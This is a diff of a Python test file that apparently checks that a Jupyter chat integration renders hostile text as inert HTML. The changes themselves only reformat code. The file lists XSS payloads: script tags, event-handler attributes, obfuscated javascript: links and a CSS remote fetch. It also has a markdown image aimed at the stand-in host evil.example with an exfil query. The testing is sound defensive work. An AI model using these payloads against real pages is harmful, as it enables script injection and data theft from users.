@@ -1,6 +1,7 @@
 """Every notebook output path renders hostile chat text as inert HTML: no tag or attribute that
 runs script, no active link, no remote fetch. (The same payloads run in a real Chromium in
 ``tests/browser/test_hostile_outputs.py``.)"""
+
 from __future__ import annotations
 
 import html
@@ -15,9 +16,9 @@ from oui_jupyter.notebook.client import Hit
 PAYLOADS = [
     "<script>window.__pwned = 1</script>",
     '<img src=x onerror="window.__pwned = 1">',
-    "<details open ontoggle=\"window.__pwned = 1\"><summary>x</summary></details>",
+    '<details open ontoggle="window.__pwned = 1"><summary>x</summary></details>',
     "<svg onload=window.__pwned=1>",
-    "<iframe src=\"javascript:window.__pwned=1\"></iframe>",
+    '<iframe src="javascript:window.__pwned=1"></iframe>',
     "[click me](javascript:window.__pwned=1)",
     "[click me](JaVaScRiPt:window.__pwned=1)",
     "[click me](java\tscript:window.__pwned=1)",
@@ -33,9 +34,37 @@ PAYLOADS = [
     '<style>body{background:url("http://127.0.0.1:9/css")}</style>',
 ]
 ALLOWED_TAGS = {
-    "p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "h1", "h2", "h3",
-    "h4", "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "s", "img", "div",
-    "span", "b", "code", "li",
+    "p",
+    "a",
+    "em",
+    "strong",
+    "code",
+    "pre",
+    "ul",
+    "ol",
+    "li",
+    "blockquote",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "hr",
+    "br",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "s",
+    "img",
+    "div",
+    "span",
+    "b",
+    "code",
+    "li",
 }
 
 
@@ -65,13 +94,17 @@ def assert_inert(markup: str) -> None:
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_answers_render_inert(payload: str) -> None:
     bundle = safe_html.bundle(f"Here you go: {payload}")
-    assert set(bundle) == {"text/html", "text/plain"}, "no text/markdown: frontends render its raw HTML"
+    assert set(bundle) == {"text/html", "text/plain"}, (
+        "no text/markdown: frontends render its raw HTML"
+    )
     assert_inert(bundle["text/html"])
     assert bundle["text/plain"].endswith(payload)
 
 
 def test_markdown_still_renders() -> None:
-    markup = safe_html.markdown_html("**bold** `code` [site](https://example.com/a) ![p](plot.png)\n\n| a |\n|---|\n| 1 |")
+    markup = safe_html.markdown_html(
+        "**bold** `code` [site](https://example.com/a) ![p](plot.png)\n\n| a |\n|---|\n| 1 |"
+    )
     assert "<strong>bold</strong>" in markup and "<code>code</code>" in markup
     assert '<a href="https://example.com/a" target="_blank"' in markup
     assert '<img src="plot.png" alt="p">' in markup
@@ -81,14 +114,22 @@ def test_markdown_still_renders() -> None:
 def test_remote_images_become_links_naming_their_host() -> None:
     markup = safe_html.markdown_html("![chart](http://evil.example/exfil?d=secret)")
     assert "<img" not in markup
-    assert "image from evil.example" in markup and 'href="http://evil.example/exfil?d=secret"' in markup
+    assert (
+        "image from evil.example" in markup
+        and 'href="http://evil.example/exfil?d=secret"' in markup
+    )
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_chat_titles_and_model_names_render_inert(payload: str) -> None:
-    chats = render.chats_bundle([{"id": "c1", "title": payload}, {"id": payload, "title": "t"}], "c1")
+    chats = render.chats_bundle(
+        [{"id": "c1", "title": payload}, {"id": payload, "title": "t"}], "c1"
+    )
     models = render.models_bundle(
-        [{"id": payload, "name": payload, "owned_by": payload}, {"id": "m", "name": "ok", "available": False}],
+        [
+            {"id": payload, "name": payload, "owned_by": payload},
+            {"id": "m", "name": "ok", "available": False},
+        ],
         payload,
     )
     for bundle in (chats, models):
@@ -99,7 +140,14 @@ def test_chat_titles_and_model_names_render_inert(payload: str) -> None:
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_search_hits_render_inert(payload: str) -> None:
-    hit = Hit(path=payload, snippet=payload, link="javascript:window.__pwned=1", cell=None, start_line=1, end_line=2)
+    hit = Hit(
+        path=payload,
+        snippet=payload,
+        link="javascript:window.__pwned=1",
+        cell=None,
+        start_line=1,
+        end_line=2,
+    )
     assert_inert(render.hits_html(payload, [hit]))
     assert_inert(render.hits_html(payload, []))
 
